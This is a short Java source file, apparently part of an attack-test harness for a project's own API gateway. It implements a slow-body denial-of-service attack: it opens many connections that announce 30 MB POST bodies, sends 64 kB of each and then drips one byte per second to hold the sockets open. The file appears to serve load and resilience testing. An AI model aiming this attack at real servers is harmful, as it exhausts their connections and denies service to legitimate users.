package io.leeloogateway.attack;

import java.time.Duration;
import java.time.Instant;
import java.util.concurrent.TimeUnit;

/** Without a valid key: announces bodies of 30 MB, sends 64 kB of each, and drips the rest after the response. */
record UnaskedBodies(int bodies, Duration duration, String header) implements Attack {

    private static final String START = """
            POST /api/v1/people HTTP/1.1
            Host: localhost
            Content-Type: application/json
            Content-Length: 30000000
            """;

    @Override
    public void run(Target target) throws Exception {
        var start = (START + header + "\n\n").replace("\n", "\r\n") + "a".repeat(64_000);
        var end = Instant.now().plus(duration);
        try (var sockets = new OpenSockets(target.port())) {
            while (sockets.size() < bodies) {
                sockets.open(start);
            }
            while (Instant.now().isBefore(end)) {
                sockets.drip("a");
                TimeUnit.SECONDS.sleep(1);
            }
        }
    }
}
